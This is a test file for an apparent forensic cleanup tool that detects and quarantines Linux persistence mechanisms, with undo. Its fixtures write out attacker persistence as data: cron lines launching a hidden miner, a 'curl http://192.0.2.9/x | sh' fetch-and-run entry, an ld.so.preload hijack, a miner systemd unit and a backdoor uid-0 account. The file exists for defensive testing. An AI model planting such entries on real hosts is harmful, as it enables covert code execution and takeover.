/** Root folders from scan to plan to clean to scan again. Nothing in them is ever run. */
import { afterEach, describe, expect, test } from 'bun:test';
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { type Files, inertProgram, type MechanismCase } from '../../../test/persistence/case.ts';
import { allCases } from '../../../test/persistence/cases.ts';
import { type PlantedRoot, plantRoot } from '../../../test/persistence/root.ts';
import { emptyConfig } from '../../model/config.ts';
import { type Plan, phases, planSchema, type Step } from '../../model/plan.ts';
import { makeImmutable } from '../execute/infected-root.fixture.ts';
import { differences, pictureOf } from '../execute/steps.fixture.ts';
import { ledgerEntries } from '../ledger/ledger-file.ts';
import { filesPutBack } from '../ledger/state.ts';
import type { CaseView } from './case-view.ts';
import { carryOutOn, planRoot, scanRoot } from './plan-root.fixture.ts';

const cleanups: (() => void)[] = [];
afterEach(() => {
  for (const cleanup of cleanups.splice(0)) cleanup();
});

function plant(planted: Files, packaged: Files = {}): PlantedRoot {
  const one: MechanismCase = {
    mechanism: 'cron-user',
    dress: 'unowned-binary',
    what: 'of this test',
    packaged,
    planted,
  };
  const root = plantRoot(one);
  cleanups.push(() => root.remove());
  return root;
}

function caseFolder(): string {
  const folder = mkdtempSync(join(tmpdir(), 'demine-plan-'));
  cleanups.push(() => rmSync(folder, { recursive: true, force: true }));
  return folder;
}

const graveOf = ({ result }: CaseView): readonly string[] =>
  result.persistence
    .filter(({ judgement }) => judgement === 'malicious' || judgement === 'suspicious')
    .map(({ id }) => id);

/** What changes the target. */
const carried = ({ steps }: Plan): readonly Step[] =>
  steps.filter(({ change }) => change.kind !== 'by-hand' && change.kind !== 'keep-evidence');
const changes = (plan: Plan): readonly string[] =>
  carried(plan).map(({ change }) => `${change.kind} ${'path' in change ? change.path : ''}`);

const owners = '# backups\n30 2 * * * /usr/bin/env true\n';
const options = '-o stratum+tcp://pool.example.test:3333 --donate-level 1';
const bad = `*/5 * * * * /tmp/.x/kdump ${options} || /var/tmp/.y/kdump ${options}\n`;
const table = '/var/spool/cron/crontabs/root';

test('the order is that of a removal, and every step names what it rests on', async () => {
  const root = plant({
    [table]: { content: `${owners}${bad}`, mode: 0o600 },
    '/tmp/.x/kdump': inertProgram(),
    '/etc/ld.so.preload': '/usr/local/lib/.libk.so\n',
    '/usr/local/lib/.libk.so': inertProgram(),
  });
  const { plan } = await planRoot(root.path, { added: graveOf });
  const order = plan.steps.map(({ phase }) => phases.indexOf(phase));
  expect(order).toEqual(order.toSorted((a, b) => a - b));
  expect(plan.steps.map(({ id }) => id)).toEqual(plan.steps.map((_, at) => `S${at + 1}`));
  expect(changes(plan)).toEqual([
    `edit-file ${table}`,
    'quarantine /etc/ld.so.preload',
    'quarantine /tmp/.x/kdump',
    'quarantine /usr/local/lib/.libk.so',
    'quarantine /tmp/.x',
  ]);
  for (const step of carried(plan)) {
    expect(step.findings.length).toBeGreaterThan(0);
    expect(step.preconditions.length).toBeGreaterThan(0);
  }
  expect(planSchema.parse(JSON.parse(JSON.stringify(plan)))).toEqual(plan);
});

describe('a table that is also the owner’s', () => {
  test('loses the line and nothing else, and gets it back', async () => {
    const root = plant({
      [table]: { content: `${owners}${bad}`, mode: 0o600 },
      '/tmp/.x/kdump': inertProgram(),
    });
    const before = pictureOf(root.path, { folderTimes: true });
    const { plan } = await planRoot(root.path);
    const [edit] = carried(plan);
    expect(edit?.change).toMatchObject({ kind: 'edit-file', edits: [{ line: 3, before: bad.trim() }] });
    const folder = caseFolder();
    await carryOutOn(root.path, folder, plan, 'clean');
    expect(readFileSync(join(root.path, table), 'utf8')).toBe(owners);
    expect(graveOf(await scanRoot(root.path))).toEqual([]);
    await carryOutOn(root.path, folder, plan, 'undo');
    expect(differences(before, pictureOf(root.path, { folderTimes: true }))).toEqual([]);
  });

  test('is never taken whole, also with nothing but notes of his beside', async () => {
    const root = plant({
      [table]: { content: `# my notes\n${bad}`, mode: 0o600 },
      '/tmp/.x/kdump': inertProgram(),
    });
    const { plan } = await planRoot(root.path);
    expect(changes(plan)).toContain(`edit-file ${table}`);
  });

  test('that changed since the scan is not edited by its lines', async () => {
    const root = plant({
      [table]: { content: `${owners}${bad}`, mode: 0o600 },
      '/tmp/.x/kdump': inertProgram(),
    });
    const { plan, view } = await planRoot(root.path, {
      // Asked between the scan and the survey's use of it: the file is another one by then.
      between: () => writeFileSync(join(root.path, table), `# one more\n${owners}${bad}`),
    });
    expect(changes(plan)).not.toContain(`edit-file ${table}`);
    const row = view.result.persistence.find(({ source }) => source === table);
    expect(plan.left).toContainEqual(expect.objectContaining({ subject: row?.id, why: 'line-changed' }));
  });
});

test('what an undo put back is planned again from the same scan, and what was written since is not', async () => {
  const root = plant({
    [table]: { content: `${owners}${bad}`, mode: 0o600 },
    '/tmp/.x/kdump': inertProgram(),
  });
  const folder = caseFolder();
  const { view, plan } = await planRoot(root.path, { added: graveOf });
  await carryOutOn(root.path, folder, plan, 'clean');
  await carryOutOn(root.path, folder, plan, 'undo');
  const added = (): readonly string[] => graveOf(view);
  expect(changes((await planRoot(root.path, { view, added })).plan)).not.toContain(`edit-file ${table}`);
  const putBack = filesPutBack(ledgerEntries(join(folder, 'ledger')));
  const again = { view: { ...view, putBack }, added };
  expect(changes((await planRoot(root.path, again)).plan)).toEqual(changes(plan));
  writeFileSync(join(root.path, table), `${owners}${bad}# `);
  expect(changes((await planRoot(root.path, again)).plan)).not.toContain(`edit-file ${table}`);
});

test('of a fallback A || B both sides go, and the folder that hides them', async () => {
  const root = plant({
    [table]: { content: bad, mode: 0o600 },
    '/tmp/.x/kdump': inertProgram(),
    '/tmp/.x/config.json': '{}\n',
    '/var/tmp/.y/kdump': inertProgram(),
  });
  const { plan } = await planRoot(root.path);
  expect(changes(plan).slice(1).toSorted()).toEqual([
    'quarantine /tmp/.x',
    'quarantine /tmp/.x/config.json',
    'quarantine /tmp/.x/kdump',
    'quarantine /var/tmp/.y',
    'quarantine /var/tmp/.y/kdump',
  ]);
  const folders = changes(plan);
  expect(folders.indexOf('quarantine /tmp/.x')).toBeGreaterThan(folders.indexOf('quarantine /tmp/.x/kdump'));
  await carryOutOn(root.path, caseFolder(), plan, 'clean');
  expect([existsSync(join(root.path, 'tmp/.x')), existsSync(join(root.path, 'tmp'))]).toEqual([false, true]);
});

test('a folder that is not the attacker’s stays, with all that is not his', async () => {
  const root = plant({
    [table]: {
      content: '*/5 * * * * /srv/app/.cache/kdump -o stratum+tcp://pool.example.test:3333 --donate-level 1\n',
      mode: 0o600,
    },
    '/srv/app/.cache/kdump': inertProgram(),
    '/srv/app/.cache/index': 'ours\n',
  });
  const { plan } = await planRoot(root.path, { added: graveOf });
  expect(changes(plan)).toContain('quarantine /srv/app/.cache/kdump');
  expect(changes(plan).filter((change) => /index|\.cache$/.test(change))).toEqual([]);
});

describe('a folder that hides or locks itself', () => {
  const unit = (program: string): string =>
    `[Service]\nExecStart=${program} ${options}\nRestart=always\n[Install]\nWantedBy=multi-user.target\n`;
  const service = '/etc/systemd/system/sysd.service';
  const taken = (plan: Plan): readonly string[] =>
    changes(plan).flatMap((change) => /^quarantine (?!\/etc\/systemd)(.*)$/.exec(change)?.[1] ?? []);

  test('goes when all that lies in it does, and comes back locked', async () => {
    const program = '/etc/.sysd/sysd';
    const root = plant({ [program]: inertProgram(), [service]: unit(program) });
    makeImmutable(root.path, '/etc/.sysd/sysd');
    makeImmutable(root.path, '/etc/.sysd');
    cleanups.unshift(() => {
      makeImmutable(root.path, '/etc/.sysd', false);
      makeImmutable(root.path, '/etc/.sysd/sysd', false);
    });
    const { plan } = await planRoot(root.path, { added: graveOf });
    expect(taken(plan)).toEqual(['/etc/.sysd/sysd', '/etc/.sysd']);
    expect(plan.left.filter(({ what }) => what.startsWith('/etc/.sysd'))).toEqual([]);
    const folder = caseFolder();
    const before = pictureOf(root.path, { folderTimes: true });
    await carryOutOn(root.path, folder, plan, 'clean');
    expect(existsSync(join(root.path, '/etc/.sysd'))).toBe(false);
    await carryOutOn(root.path, folder, plan, 'undo');
    expect(differences(before, pictureOf(root.path, { folderTimes: true }))).toEqual([]);
  });

  test('stays where anything else lies in it, where custom hides it, and where it is plain', async () => {
    for (const [program, files] of [
      ['/usr/lib/.cache2/kw', { '/usr/lib/.cache2/notes': 'the owner’s\n' }],
      ['/home/ada/.local/kw', {}],
      ['/opt/tool/kw', {}],
    ] as const) {
      const root = plant({ [program]: inertProgram(), [service]: unit(program), ...files });
      const { plan } = await planRoot(root.path, { added: graveOf });
      expect(taken(plan).filter((path) => path !== program)).toEqual([]);
    }
  });
});

test('a file of a package that nobody changed is not touched, whatever starts it', async () => {
  const root = plant({
    [table]: {
      content: '* * * * * /usr/bin/env /tmp/.x/kdump; /usr/bin/curl http://192.0.2.9/x | /bin/sh\n',
      mode: 0o600,
    },
    '/tmp/.x/kdump': inertProgram(),
  });
  const { plan } = await planRoot(root.path, { added: graveOf });
  expect(changes(plan).length).toBeGreaterThan(1);
  expect(changes(plan).filter((change) => /bin\//.test(change))).toEqual([]);
});

test('what only one thing speaks for is told and not planned, until the responder adds it', async () => {
  const root = plant({
    [table]: { content: `${owners}* * * * * curl -fsSL http://192.0.2.9/x | sh\n`, mode: 0o600 },
  });
  const { plan, view } = await planRoot(root.path);
  expect(carried(plan)).toEqual([]);
  expect(plan.left).toMatchObject([{ subject: graveOf(view)[0], why: 'one-signal', addable: true }]);
  const added = await planRoot(root.path, { added: graveOf });
  expect(changes(added.plan)).toEqual([`edit-file ${table}`]);
  expect(added.plan.added).toEqual([...graveOf(added.view)]);
});

test('the owner’s declared miner is not planned, and another’s beside it is', async () => {
  const ours = '0 1 * * * /opt/ours/xmrig -o stratum+tcp://pool.example.test:3333 --donate-level 1\n';
  const root = plant({
    [table]: { content: `${ours}${bad}`, mode: 0o600 },
    '/opt/ours/xmrig': inertProgram(),
    '/tmp/.x/kdump': inertProgram(),
  });
  const mining = [{ exe: '/opt/ours/xmrig', reason: 'ours' }];
  const { plan } = await planRoot(root.path, {
    config: { ...emptyConfig, mining },
    added: graveOf,
  });
  expect(changes(plan).filter((change) => change.includes('/opt/ours'))).toEqual([]);
  expect(carried(plan)[0]?.change).toMatchObject({ kind: 'edit-file', edits: [{ line: 2 }] });
  const undeclared = await planRoot(root.path, { added: graveOf });
  expect(changes(undeclared.plan)).toContain('quarantine /opt/ours/xmrig');
});

test('an entry behind a link in its path is planned by its real path', async () => {
  const root = plant({
    '/data/cron/': '',
    '/var/spool/cron': { link: '../../data/cron' },
    '/data/cron/crontabs/root': { content: `${owners}${bad}`, mode: 0o600 },
    '/tmp/.x/kdump': inertProgram(),
  });
  const { plan } = await planRoot(root.path);
  expect(changes(plan)[0]).toBe('edit-file /data/cron/crontabs/root');
  const told = await carryOutOn(root.path, caseFolder(), plan, 'clean');
  expect(told.filter(({ how }) => how === 'stopped')).toEqual([]);
  expect(readFileSync(join(root.path, 'data/cron/crontabs/root'), 'utf8')).toBe(owners);
});

test('a second root goes from all account files, and hashes are shown nowhere', async () => {
  const root = plant({
    '/etc/passwd':
      'root:x:0:0:root:/root:/bin/bash\nada:x:1000:1000::/home/ada:/bin/bash\nsyss:x:0:0::/root:/bin/bash\n',
    '/etc/shadow': { content: 'root:*:19000::::::\nsyss:$6$abcdefgh$0123456789:19000::::::\n', mode: 0o640 },
  });
  const { plan } = await planRoot(root.path, { added: graveOf });
  expect(changes(plan)).toEqual(['edit-file /etc/passwd', 'edit-file /etc/shadow']);
  expect(JSON.stringify(plan)).not.toContain('abcdefgh');
  await carryOutOn(root.path, caseFolder(), plan, 'clean');
  expect(readFileSync(join(root.path, 'etc/passwd'), 'utf8')).toBe(
    'root:x:0:0:root:/root:/bin/bash\nada:x:1000:1000::/home/ada:/bin/bash\n',
  );
  expect(readFileSync(join(root.path, 'etc/shadow'), 'utf8')).toBe('root:*:19000::::::\n');
});

test('a program that a package brought and somebody replaced is left to its package, with the command', async () => {
  const root = plant({ '/usr/bin/psx': inertProgram(4096) }, { '/usr/bin/psx': inertProgram(2000) });
  writeFileSync(join(root.path, 'usr/bin/ps'), inertProgram());
  const { plan } = await planRoot(root.path, { added: graveOf });
  expect(carried(plan)).toEqual([]);
  expect(plan.steps.map(({ change }) => change)).toContainEqual(
    expect.objectContaining({
      kind: 'by-hand',
      task: 'reinstall-package',
      command: 'apt-get install --reinstall procps',
    }),
  );
});

test('nothing of any honest host is planned or told', async () => {
  const honest = allCases.filter(({ dress }) => dress === 'honest');
  expect(honest.length).toBeGreaterThan(60);
  const planned: string[] = [];
  for (const one of honest) {
    const root = plantRoot(one);
    try {
      const { plan } = await planRoot(root.path);
      if (plan.steps.length + plan.left.length > 0) planned.push(`${one.mechanism}: ${one.what}`);
    } finally {
      root.remove();
    }
  }
  expect(planned).toEqual([]);
}, 240_000);
